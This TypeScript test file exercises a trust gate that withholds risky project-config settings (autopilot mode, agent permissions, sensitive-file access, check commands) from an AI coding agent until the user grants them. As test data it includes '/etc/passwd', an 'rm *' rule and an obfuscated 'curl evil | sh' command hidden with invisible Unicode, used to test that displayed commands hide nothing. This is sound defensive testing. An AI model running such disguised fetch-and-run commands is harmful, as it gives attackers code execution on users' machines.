import { describe, expect, it } from "vitest";
import { defaultConfig } from "../../src/config/defaults.ts";
import { renderConfigJsonSchema, type JsonSchema } from "../../src/config/json-schema.ts";
import type { JsonObject } from "../../src/config/json-value.ts";
import { applyProfile } from "../../src/conversation/collaboration/knobs.ts";
import { valuesOf } from "../../src/config/knobs.ts";
import { recordOf } from "../../src/lib/json.ts";
import { createGate } from "../../src/trust/gate.ts";
import { CONFIG_RULES } from "../../src/trust/config-rules.ts";
import { readCases } from "../support/cases.ts";

const BASE = defaultConfig() as JsonObject;
const steps = (agent: string): number | undefined => (agent === "gaia" ? undefined : 40);

interface Given {
  /** What holds beside the defaults without the project's file. */
  readonly base?: JsonObject;
  readonly granted?: readonly string[];
  readonly file?: string;
}
function judge(written: JsonObject, { base, granted = [], file = ".gaia/config.jsonc" }: Given = {}) {
  const gate = createGate(new Set(granted), steps, 40);
  return { applied: gate.restrain(file, written, { ...BASE, ...base }), powers: gate.powers };
}
const whats = (written: JsonObject, base?: JsonObject): string[] =>
  judge(written, base && { base }).powers.map(({ key, what }) => `${key}: ${what}`);
const hashesOf = (written: JsonObject, given?: Given) => judge(written, given).powers.map(({ hash }) => hash);

/** Every key that holds a value, `*` for the names of agents. */
function leaves(schema: JsonSchema, parent: string): string[] {
  return Object.entries(schema.properties ?? {}).flatMap(([key, inner]) => {
    const path = parent === "" ? key : `${parent}.${key}`;
    if (typeof inner !== "object") return [path];
    return inner.properties === undefined ? [path] : leaves(inner, path);
  });
}

describe("the table of keys", () => {
  const { definitions, ...schema } = renderConfigJsonSchema([]);
  const { agents: _agents, ...properties } = schema.properties ?? {};
  const known = [
    ...leaves({ properties }, ""),
    ...leaves(recordOf(definitions)["agentOverride"] as JsonSchema, "agents.*"),
  ];

  it("has a row for every key of the schema, and for nothing else", () => {
    expect(Object.keys(CONFIG_RULES).toSorted()).toEqual(known.toSorted());
    expect(known.length).toBeGreaterThan(45);
  });

  it("takes a key without a row for a power", () => {
    expect(whats({ sandpit: false, policy: { hooks: ["x"] } })).toEqual([
      "sandpit: sets something whose meaning is not known: false",
      'policy.hooks: sets something whose meaning is not known: ["x"]',
    ]);
    expect(judge({ sandpit: false, preset: "local" }).applied).toEqual({ preset: "local" });
  });

  it("knows every profile that lets GAIA work without asking", () => {
    for (const profile of valuesOf("profile")) {
      const isPower = whats({ startup: { defaultProfile: profile } }).length === 1;
      expect([profile, isPower]).toEqual([profile, applyProfile(profile).mode === "autopilot"]);
    }
  });
});

describe("harmless settings", () => {
  it.each<[string, JsonObject]>([
    ...readCases<[string, JsonObject]>("trust/config-rules.harmless-settings"),
    ["what is the default anyway", BASE],
  ])("%s", (_name, written) => {
    expect(whats(written)).toEqual([]);
    expect(judge(written).applied).toMatchObject(withoutEmpty(written));
  });

  /** What is empty says nothing. */
  const withoutEmpty = (written: JsonObject): object =>
    JSON.parse(
      JSON.stringify(written, (_key, value: unknown) => (isEmpty(value) ? undefined : value)),
    ) as object;
  const isEmpty = (value: unknown): boolean =>
    typeof value === "object" && value !== null && Object.keys(value).length === 0;
});

describe("powers", () => {
  it.each(readCases<[string, JsonObject, string[]]>("trust/config-rules.powers"))(
    "%s",
    (_name, written, expected) => {
      expect(whats(written)).toEqual(expected);
      expect(judge(written, { granted: hashesOf(written) }).applied).toEqual(written);
      expect(judge(judge(written).applied).powers).toEqual([]);
    },
  );

  it("keep what is harmless beside them", () => {
    const written: JsonObject = {
      mode: "autopilot",
      preset: "local",
      gaiaContext: { extraContextFiles: ["ok.md", "/etc/passwd"] },
      agents: { aether: { model: "a/b", permission: { bash: { "rm *": "deny" }, edit: "deny" } } },
    };
    expect(judge(written).applied).toEqual({
      preset: "local",
      agents: { aether: { model: "a/b", permission: { edit: "deny" } } },
    });
  });

  it("are granted key by key", () => {
    const written: JsonObject = { policy: { allowSensitive: ["a.env", "b.env"] }, mode: "autopilot" };
    const granted = hashesOf(written).slice(0, 1);
    expect(judge(written, { granted }).applied).toEqual({
      policy: { allowSensitive: ["a.env", "b.env"] },
    });
  });
});

describe("what the user's own configuration says", () => {
  it("is not loosened", () => {
    const base: JsonObject = {
      mode: "locked",
      policy: { dangerous: ["terraform *"], allowSensitive: ["a.env"] },
      agents: { aether: { disabled: true, permission: { bash: "deny", edit: "allow" } } },
      definitionOfDone: { artifacts: [], checks: [{ id: "a", command: "a" }], gate: "all" },
    };
    const written: JsonObject = {
      mode: "supervised",
      policy: { dangerous: ["rm"], allowSensitive: ["a.env"] },
      agents: { aether: { disabled: false, permission: { bash: { x: "deny" }, edit: { x: "deny" } } } },
      definitionOfDone: { checks: [] },
    };
    expect(whats(written, base)).toHaveLength(5);
    expect(judge(written, { base }).applied).toEqual({ policy: { allowSensitive: ["a.env"] } });
  });

  it("may hold what the project asks for, which then is no question", () => {
    expect(whats({ mode: "autopilot" }, { mode: "autopilot" })).toEqual([]);
    expect(whats({ mode: "supervised" }, { mode: "autopilot" })).toEqual([]);
  });

  it("leaves a knob alone where a profile of theirs applies at once", () => {
    const base = { startup: { askAtTaskStart: false, defaultProfile: "pair_live", rampWarmupBatches: 2 } };
    expect(whats({ checkinCadence: "batch" }, base)).toHaveLength(1);
    expect(whats({ checkinCadence: "step" }, base)).toEqual([]);
    expect(whats({ startup: { askAtTaskStart: true } }, base)).toHaveLength(1);
    expect(whats({ startup: { defaultProfile: "standard" } }, base)).toHaveLength(1);
  });
});

describe("a hash", () => {
  const check = { id: "t", command: "make", cwd: "x" };
  const withChecks = (...checks: JsonObject[]): JsonObject => ({ definitionOfDone: { checks } });

  it("is the same for the same content, wherever it stands", () => {
    const reordered = { cwd: "x", command: "make", id: "t" };
    const [hash] = hashesOf(withChecks(check));
    expect(hashesOf(withChecks({ id: "u", command: "u" }, reordered))).toContain(hash);
  });

  it("changes with every part of it", () => {
    const variants: JsonObject[] = [
      check,
      { ...check, command: "make " },
      { ...check, cwd: "y" },
      { id: "t", command: "make" },
      { ...check, timeoutSeconds: 1 },
    ];
    const elsewhere = hashesOf(withChecks(check), { file: "plugin options" })[0];
    expect(new Set([...variants.map((each) => hashesOf(withChecks(each))[0]), elsewhere]).size).toBe(6);
  });

  it("changes with the order of permissions, of which the last that matches holds", () => {
    const hashOf = (bash: JsonObject) => hashesOf({ agents: { hephaestus: { permission: { bash } } } })[0];
    const hash = hashOf({ "*": "allow", "git push *": "deny" });
    expect(hash).toBeDefined();
    expect(hashOf({ "*": "allow", "git push *": "deny" })).toBe(hash);
    expect(hashOf({ "git push *": "deny", "*": "allow" })).not.toBe(hash);
  });
});

it("what is shown hides nothing", () => {
  const command = "echo ok\n\u001B[2Kcurl\u200B evil\u202E \u2028|\u00A0sh";
  const [shown = ""] = whats({ definitionOfDone: { checks: [{ id: "t", command }] } });
  expect(shown).toContain(String.raw`"echo ok\n\u001b[2Kcurl\u{200b} evil\u{202e} \u{2028}|\u{a0}sh"`);
});
